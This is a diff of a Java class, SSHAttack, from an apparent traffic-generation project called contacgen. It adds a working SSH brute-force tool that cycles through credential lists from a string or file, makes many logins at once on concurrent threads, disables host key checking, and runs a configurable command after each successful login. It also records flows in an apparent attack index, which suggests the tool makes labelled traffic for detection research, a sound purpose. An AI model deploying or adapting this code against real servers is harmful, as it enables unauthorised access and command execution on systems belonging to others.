@@ -1,62 +1,344 @@
 package fr.contacgen;
 
 import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.lang.reflect.Method;
 import java.net.InetAddress;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.InvalidPathException;
+import java.nio.file.Path;
+import java.nio.file.Paths;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.List;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.ScheduledExecutorService;
+import java.util.concurrent.ScheduledFuture;
+import java.util.concurrent.ScheduledThreadPoolExecutor;
+import java.util.concurrent.Semaphore;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicBoolean;
+import java.util.concurrent.atomic.AtomicInteger;
 
 import com.jcraft.jsch.ChannelExec;
 import com.jcraft.jsch.JSch;
 import com.jcraft.jsch.JSchException;
 import com.jcraft.jsch.Session;
 
+/**
+ * SSH brute force: login attempts cycling through a list of credentials,
+ * several of them in flight at once. Attempts run on virtual threads when the
+ * JVM has them, on a pool of the concurrency size otherwise.
+ */
 public class SSHAttack implements Runnable {
+	private static final int PORT = 22;
+	private static final int TIMEOUT = 10000;
+	private static ScheduledExecutorService timer = null;
+
 	private InetAddress server;
 	private int amount = 200;
+	private int concurrency = 1;
+	private List<String[]> credentials = Collections.singletonList(new String[] {"root", "root"});
+	private String command = "ls";
+	private int timeout = TIMEOUT;
+	private Pacer pacer = null;
+	private AttackIndex index = null;
+	private final AtomicInteger succeeded = new AtomicInteger();
+	private final AtomicInteger failed = new AtomicInteger();
 
 	public SSHAttack(InetAddress server) {
 		this.server = server;
 	}
 
-    public static void execSSH(String username, String password, 
-            String host, int port, String command) {
-        Session session = null;
-        ChannelExec channel = null;
-        
-        try {
-            session = new JSch().getSession(username, host, port);
-            session.setPassword(password);
-            session.setConfig("StrictHostKeyChecking", "no");
-            session.setTimeout(30);
-            session.connect();
-
-            channel = (ChannelExec) session.openChannel("exec");
-            channel.setCommand(command);
-            ByteArrayOutputStream responseStream = new ByteArrayOutputStream();
-            channel.setOutputStream(responseStream);
-            channel.connect();
-            
-            while (channel.isConnected()) {
-                Thread.sleep(10);
-            }
-            
-            String responseString = new String(responseStream.toByteArray());
-            System.out.println(responseString);
-        } catch (JSchException | InterruptedException e) {
-            e.printStackTrace();
-        } finally {
-            if (session != null) {
-                session.disconnect();
-            }
-            if (channel != null) {
-                channel.disconnect();
-            }
-        }
-    }
-
-    @Override
-    public void run() {
-		while (amount > 0) {
-			execSSH("root", "root", server.getHostName(), 22, "ls");
-            amount--;
-        }
-    }
+	/**
+	 * Logs in, runs a command and prints its output.
+	 *
+	 * @param username the user name
+	 * @param password the password
+	 * @param host the SSH server
+	 * @param port the SSH port
+	 * @param command the command to run once logged in
+	 */
+	public static void execSSH(String username, String password,
+			String host, int port, String command) {
+		try {
+			System.out.println(execSSH(username, password, host, port, command, TIMEOUT));
+		} catch (JSchException | IOException e) {
+			e.printStackTrace();
+		}
+	}
+
+	/**
+	 * Logs in and runs a command, waiting for the end of its output at most the timeout.
+	 *
+	 * @param username the user name
+	 * @param password the password
+	 * @param host the SSH server
+	 * @param port the SSH port
+	 * @param command the command to run once logged in
+	 * @param timeout the timeout of the connection and of the output in milliseconds
+	 * @return the output of the command
+	 * @throws JSchException if the connection or the login fails
+	 * @throws IOException if the output cannot be read or does not end in time
+	 */
+	public static String execSSH(String username, String password,
+			String host, int port, String command, int timeout) throws JSchException, IOException {
+		Session session = null;
+		ChannelExec channel = null;
+		try {
+			session = new JSch().getSession(username, host, port);
+			session.setPassword(password);
+			session.setConfig("StrictHostKeyChecking", "no");
+			session.setTimeout(timeout);
+			session.connect(timeout);
+
+			channel = (ChannelExec) session.openChannel("exec");
+			channel.setCommand(command);
+			InputStream output = channel.getInputStream();
+			channel.connect(timeout);
+
+			// Disconnecting at the deadline ends the read below, which would block as long as the command runs
+			Session connected = session;
+			AtomicBoolean expired = new AtomicBoolean();
+			ScheduledFuture<?> deadline = timer().schedule(() -> {
+				expired.set(true);
+				connected.disconnect();
+			}, timeout, TimeUnit.MILLISECONDS);
+			ByteArrayOutputStream response = new ByteArrayOutputStream();
+			try {
+				byte[] buffer = new byte[4096];
+				int read;
+				while((read = output.read(buffer)) >= 0)
+					response.write(buffer, 0, read);
+			} catch (IOException e) {
+				if(!expired.get()) throw e;
+			} finally {
+				deadline.cancel(false);
+			}
+			if(expired.get())
+				throw new IOException("The output of '" + command + "' did not end after " + timeout + " ms");
+			return new String(response.toByteArray(), StandardCharsets.UTF_8);
+		} finally {
+			if (channel != null) {
+				channel.disconnect();
+			}
+			if (session != null) {
+				session.disconnect();
+			}
+		}
+	}
+
+	@Override
+	public void run() {
+		System.out.println("SSH attack started on " + server + " with " + concurrency + " concurrent logins");
+		String host = server.getHostAddress();
+		ExecutorService executor = newExecutor(concurrency);
+		Semaphore slots = new Semaphore(concurrency);
+		// Every login comes from a new port
+		AttackIndex.Flow flow = index == null ? null
+				: index.open(AttackIndex.TCP, AttackIndex.localAddress(server), 0, server, PORT);
+		try {
+			for (int i = 0; i < amount && !Thread.currentThread().isInterrupted(); i++) {
+				if(pacer != null) pacer.acquire(1);
+				slots.acquire();
+				String[] credential = credentials.get(i % credentials.size());
+				executor.execute(() -> {
+					try {
+						execSSH(credential[0], credential[1], host, PORT, command, timeout);
+						succeeded.incrementAndGet();
+					} catch (JSchException | IOException e) {
+						failed.incrementAndGet();
+					} finally {
+						slots.release();
+					}
+				});
+			}
+			// Wait for the attempts still running
+			slots.acquire(concurrency);
+		} catch (InterruptedException e) {
+			Thread.currentThread().interrupt();
+		} finally {
+			// A stopped attack interrupts its attempts, the flow ends once they are all done
+			if(Thread.currentThread().isInterrupted())
+				executor.shutdownNow();
+			else
+				executor.shutdown();
+			awaitAttempts(executor);
+			if(flow != null) flow.close();
+		}
+		System.out.println("SSH attack finished, " + succeeded.get() + " logins succeeded, " + failed.get() + " failed");
+	}
+
+	/**
+	 * Waits for the attempts to end, even when interrupted, restoring the interrupt afterwards.
+	 */
+	private static void awaitAttempts(ExecutorService executor) {
+		boolean interrupted = false;
+		while(true) {
+			try {
+				if(executor.awaitTermination(1, TimeUnit.MINUTES)) break;
+			} catch (InterruptedException e) {
+				interrupted = true;
+			}
+		}
+		if(interrupted)
+			Thread.currentThread().interrupt();
+	}
+
+	private static synchronized ScheduledExecutorService timer() {
+		if(timer == null) {
+			ScheduledThreadPoolExecutor pool = new ScheduledThreadPoolExecutor(1, (Runnable task) -> {
+				Thread thread = new Thread(task, "contacgen-ssh-timer");
+				thread.setDaemon(true);
+				return thread;
+			});
+			pool.setRemoveOnCancelPolicy(true);
+			timer = pool;
+		}
+		return timer;
+	}
+
+	/**
+	 * @return a virtual thread per task executor if the JVM has them, a pool of the given size otherwise
+	 */
+	private static ExecutorService newExecutor(int concurrency) {
+		try {
+			Method virtual = Executors.class.getMethod("newVirtualThreadPerTaskExecutor");
+			return (ExecutorService) virtual.invoke(null);
+		} catch (ReflectiveOperationException e) {
+			AtomicInteger count = new AtomicInteger();
+			return Executors.newFixedThreadPool(concurrency, (Runnable task) -> {
+				Thread thread = new Thread(task, "contacgen-ssh-" + count.incrementAndGet());
+				thread.setDaemon(true);
+				return thread;
+			});
+		}
+	}
+
+	/**
+	 * Parses credentials: comma separated user:password pairs, or a file with one pair per line.
+	 * A spec that is not a valid path on this system, like user:pass on Windows, is taken as pairs.
+	 *
+	 * @param spec the pairs or the path of the file
+	 * @return the credentials, as user and password arrays
+	 * @throws IOException if the file cannot be read
+	 * @throws IllegalArgumentException if a pair has no colon
+	 */
+	public static List<String[]> parseCredentials(String spec) throws IOException {
+		List<String> pairs = new ArrayList<>();
+		Path file = credentialsFile(spec);
+		if(file != null) {
+			for(String line : Files.readAllLines(file, StandardCharsets.UTF_8))
+				if(line.trim().length() != 0) pairs.add(line.trim());
+		} else {
+			for(String pair : spec.split(","))
+				pairs.add(pair.trim());
+		}
+		List<String[]> credentials = new ArrayList<>();
+		for(String pair : pairs) {
+			int colon = pair.indexOf(':');
+			if(colon < 0)
+				throw new IllegalArgumentException("Expected user:password, got '" + pair + "'.");
+			credentials.add(new String[] {pair.substring(0, colon), pair.substring(colon + 1)});
+		}
+		if(credentials.isEmpty())
+			throw new IllegalArgumentException("No credentials in '" + spec + "'.");
+		return credentials;
+	}
+
+	/**
+	 * @return the file holding the credentials, or null if the spec does not name one
+	 */
+	private static Path credentialsFile(String spec) {
+		try {
+			Path file = Paths.get(spec);
+			return Files.isRegularFile(file) ? file : null;
+		} catch (InvalidPathException e) {
+			return null;
+		}
+	}
+
+	/**
+	 * Sets the number of login attempts, 200 by default.
+	 *
+	 * @param amount the number of attempts
+	 */
+	public void setAmount(int amount) {
+		this.amount = amount;
+	}
+
+	/**
+	 * Sets the number of login attempts in flight at once, 1 by default.
+	 *
+	 * @param concurrency the number of attempts
+	 */
+	public void setConcurrency(int concurrency) {
+		if(concurrency < 1)
+			throw new IllegalArgumentException("The concurrency must be at least 1.");
+		this.concurrency = concurrency;
+	}
+
+	/**
+	 * Sets the credentials the attempts cycle through, root:root by default.
+	 *
+	 * @param credentials user and password arrays
+	 */
+	public void setCredentials(List<String[]> credentials) {
+		if(credentials.isEmpty())
+			throw new IllegalArgumentException("At least one credential is needed.");
+		this.credentials = credentials;
+	}
+
+	/**
+	 * Sets the command run after a successful login, ls by default.
+	 *
+	 * @param command the command
+	 */
+	public void setCommand(String command) {
+		this.command = command;
+	}
+
+	/**
+	 * Sets the connection timeout, 10 seconds by default.
+	 *
+	 * @param timeout the timeout in milliseconds
+	 */
+	public void setTimeout(int timeout) {
+		this.timeout = timeout;
+	}
+
+	/**
+	 * Sets the pacer the connections wait for, each connection counting as one packet.
+	 *
+	 * @param pacer the pacer, or null to connect as fast as possible
+	 */
+	public void setPacer(Pacer pacer) {
+		this.pacer = pacer;
+	}
+
+	/**
+	 * Sets the index the logins are recorded in.
+	 *
+	 * @param index the index, or null
+	 */
+	public void setIndex(AttackIndex index) {
+		this.index = index;
+	}
+
+	/**
+	 * @return the number of successful logins so far
+	 */
+	public int getSucceeded() {
+		return succeeded.get();
+	}
+
+	/**
+	 * @return the number of failed logins so far
+	 */
+	public int getFailed() {
+		return failed.get();
+	}
 }